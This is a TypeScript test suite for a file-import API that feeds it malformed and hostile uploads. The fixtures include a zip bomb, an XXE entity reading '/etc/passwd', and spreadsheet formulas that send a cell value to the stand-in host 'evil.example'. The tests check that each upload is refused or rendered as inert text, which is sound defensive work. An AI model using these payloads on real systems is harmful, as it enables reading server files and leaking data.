import { randomBytes } from 'node:crypto';
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { IMPORT_MAX_COLUMNS, type Import, type ImportTarget, type Problem } from '@knotenpunkt/shared';
import { startTestApp, type TestApp } from '../support/app.js';
import { BUILD_PATIENCE, ensureBuilt } from '../support/build.js';
import { TEST_SECRET } from '../support/database.js';
import { until } from '../support/job-app.js';
import { loginAs, type TestLogin } from '../support/login.js';
import { asOwner, makeRegion } from '../support/regions.js';
import { ServerProcess } from '../support/server-process.js';
import { packed, sheetXml, workbookFile, workbookOf } from '../support/workbook-file.js';

const MB = 1024 * 1024;

/** What the process may use for all that it makes of files, in MB: less than the largest of them once unpacked. */
const HEAP = 160;
/** What it may hold at most, code and buffers included; it holds about half of it before the first file. */
const MOST_MEMORY = 420 * MB;

/** What an upload writes, where it is taken. */
const KEPT = ['import', 'import_row', 'import_organisation', 'import_mapping', 'file_content', 'file', 'event', 'outbox'];

const row = (cells: readonly string[]): string => `${cells.join(';')}\r\n`;
const inline = (text: string): string => sheetXml(`<row r="1"><c r="A1" t="inlineStr"><is><t>${text}</t></is></c></row>`);
const headers = (count: number): string[] => Array.from({ length: count }, (_, at) => `Spalte ${at + 1}`);
const card = (photo: string): string =>
  ['BEGIN:VCARD', 'VERSION:3.0', 'N:Muster;Ada;;;', 'FN:Ada Muster', `PHOTO;ENCODING=b;TYPE=JPEG:${photo}`, 'END:VCARD', ''].join(
    '\r\n',
  );

/** A text of so many characters that packs to a quarter, as texts do. */
function longText(length: number): string {
  const letters = Array.from({ length: 256 }, (_, byte) =>
    [6, 4, 2, 0].map((shift) => 'wort'.charAt((byte >> shift) & 3)).join(''),
  );
  return Array.from(randomBytes(length / 4), (byte) => letters[byte]).join('');
}

/** Files nobody can read as a table, or should not: what they are called, their content, and what is said of them. */
const REFUSED: Readonly<Record<string, [name: string, content: () => Promise<Buffer> | Buffer | string, said: object]>> = {
  'a broken workbook': [
    'liste.xlsx',
    async () => (await workbookFile([{ name: 'x', rows: [['Name'], [longText(40_000)]] }])).subarray(0, 9_000),
    { reason: 'broken' },
  ],
  'a workbook that bursts': [
    'liste.xlsx',
    () => workbookOf({ sheetParts: [Buffer.alloc(200 * MB, ' ')] }),
    { reason: 'bomb', limit: 1_024 },
  ],
  'a table that is too wide': [
    'breit.csv',
    () => row(headers(IMPORT_MAX_COLUMNS + 1)) + row(['x']),
    { reason: 'too_wide', limit: IMPORT_MAX_COLUMNS, row: 1 },
  ],
  'a workbook with a cell of 50 MB': [
    'lang.xlsx',
    () => workbookOf({ sheetParts: [inline(longText(50 * MB))] }),
    { reason: 'cell_too_large', limit: 100_000, row: 1 },
  ],
  'a quotation of 20 MB that does not end': [
    'lang.csv',
    () => `Name\r\n"${longText(20 * MB)}`,
    { reason: 'cell_too_large', limit: 100_000 },
  ],
  'a picture called a table': [
    'bild.csv',
    () => Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
    { reason: 'not_a_table' },
  ],
  'a document called a workbook': ['brief.xlsx', () => packed({ 'word/document.xml': '<x/>' }), { reason: 'not_a_table' }],
  'a workbook that asks for a file of the server': [
    'fremd.xlsx',
    () => workbookOf({ sheetParts: [inline('&e;').replace('?>\n', '?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>')] }),
    { reason: 'external_entity' },
  ],
};

describe('files that are imported, made badly or to do harm', () => {
  let test: TestApp;
  let server: ServerProcess;
  let login: TestLogin;
  let scratch: string;

  beforeAll(async () => {
    await ensureBuilt();
    test = await startTestApp();
    scratch = await mkdtemp(join(tmpdir(), 'uploads-'));
    const region = await makeRegion(test.database);
    login = await loginAs(test, { regions: { [region]: 'coordinator' } });
    server = await ServerProcess.start('all', {
      DATABASE_URL: test.database.ownerUrl,
      DATABASE_APP_URL: test.database.appUrl,
      SECRET_KEY: TEST_SECRET.toString(),
      LOG_LEVEL: 'error',
      NODE_OPTIONS: `--max-old-space-size=${HEAP}`,
      TMPDIR: scratch,
    });
  }, BUILD_PATIENCE);

  afterAll(async () => {
    await server.end();
    await test.close();
    await rm(scratch, { recursive: true });
  });

  const headersOf = (): Record<string, string> => ({ cookie: login.cookie() ?? '' });
  const upload = async <Body>(name: string, content: Buffer | string, target: ImportTarget = 'persons') => {
    const form = new FormData();
    form.append('file', new Blob([typeof content === 'string' ? content : new Uint8Array(content)]), name);
    const address = `${server.address}/api/imports?target=${target}`;
    const answer = await fetch(address, { method: 'POST', headers: headersOf(), body: form });
    return { status: answer.status, body: (await answer.json()) as Body };
  };
  const configure = async <Body>(imported: Import, mapping: Record<string, string>) => {
    const { id, sheet, headerRow, version } = imported;
    const options = { purpose: 'Netzwerk', legalBasis: 'public_task', dataSource: 'Liste' };
    const answer = await fetch(`${server.address}/api/imports/${id}`, {
      method: 'PUT',
      headers: { ...headersOf(), 'content-type': 'application/json' },
      body: JSON.stringify({ sheet, headerRow, version, mapping, options }),
    });
    return { status: answer.status, body: (await answer.json()) as Body };
  };
  /** How much there is of everything an upload could have written, files in the folder for uploads included. */
  const kept = async (): Promise<Record<string, number>> =>
    asOwner(test.database, async (client) => {
      const counts = KEPT.map((table) => `SELECT '${table}' AS table, count(*)::int AS count FROM ${table}`);
      const { rows } = await client.query<{ table: string; count: number }>(counts.join(' UNION ALL '));
      return { ...Object.fromEntries(rows.map(({ table, count }) => [table, count])), files: (await readdir(scratch)).length };
    });

  it.each(Object.entries(REFUSED))(
    '%s is refused with its reason, and nothing of it stays',
    async (_, [name, content, said]) => {
      const before = await kept();
      const { status, body } = await upload<Problem>(name, await content());
      expect([status, body.code, body.values]).toEqual([400, 'file_unreadable', expect.objectContaining(said)]);
      expect(await kept()).toEqual(before);
    },
    BUILD_PATIENCE,
  );

  it.each([
    ['a cell of 50 MB', 'lang.csv', () => `Name\r\n"${'x'.repeat(50 * MB)}"`],
    ['a picture of 30 MB in a vCard', 'karte.vcf', () => card('QUJD'.repeat(7.5 * MB))],
  ])('%s is larger than what is taken in', async (_, name, content) => {
    const before = await kept();
    const { status, body } = await upload<Problem>(name, content());
    expect([status, body.code]).toEqual([413, 'too_large']);
    expect(await kept()).toEqual(before);
  });

  it('a vCard with a picture of 20 MB is taken without it', async () => {
    const { status, body } = await upload<Import>('karte.vcf', card('QUJD'.repeat(5 * MB)));
    expect([status, body.sheets[0]?.rows]).toEqual([201, 1]);
    expect(JSON.stringify(body).length).toBeLessThan(20_000);
  });

  it('as many columns as are allowed are taken', async () => {
    const { status, body } = await upload<Import>('breit.csv', row(headers(IMPORT_MAX_COLUMNS)) + row(['x']));
    expect([status, body.sheets[0]?.columns.length]).toEqual([201, IMPORT_MAX_COLUMNS]);
  });

  it('of two columns with one header the first is taken for the field, and both together are refused', async () => {
    const { status, body } = await upload<Import>('doppelt.csv', row(['Nachname', 'Nachname']) + row(['Muster', 'Beispiel']));
    expect([status, body.mapping]).toEqual([201, { 0: 'lastName' }]);
    const before = await kept();
    const refused = await configure<Problem>(body, { 0: 'lastName', 1: 'lastName' });
    expect([refused.status, refused.body.fields]).toEqual([
      400,
      [expect.objectContaining({ path: 'mapping.1', code: 'not_unique' })],
    ]);
    expect(await kept()).toEqual(before);
  });

  it('formulas are the texts they show, and calculate nothing', async () => {
    const evil = '=HYPERLINK("https://evil.example/?"&A1)';
    const cells = [{ formula: 'WEBSERVICE("https://evil.example")', value: 'Muster' }, { formula: 'NOW()' }, evil];
    const file = await workbookFile([{ name: 'x', rows: [['Nachname', 'Vorname', 'Notiz'], cells] }]);
    const { status, body } = await upload<Import>('formeln.xlsx', file);
    expect([status, body.sheets[0]?.columns.map(({ samples }) => samples)]).toEqual([201, [['Muster'], [], [evil]]]);
    expect((await configure(body, { 0: 'lastName', 1: 'firstName', 2: 'note' })).status).toBe(200);
    await until(async () => {
      const { rows } = await rowsOf(body.id);
      return rows.length === 1 && rows[0]?.cells.note === evil && rows[0].cells.lastName === 'Muster';
    });
  });

  const rowsOf = async (id: string) => {
    const answer = await fetch(`${server.address}/api/imports/${id}/rows`, { headers: headersOf() });
    return { rows: (await answer.json()) as { cells: Record<string, string> }[] };
  };

  it('of all these the process has held no more at a time than it may', async () => {
    expect(await server.status('/health/live')).toBe(200);
    expect((await server.mostMemory()) ?? 0).toBeLessThan(MOST_MEMORY);
  });
});
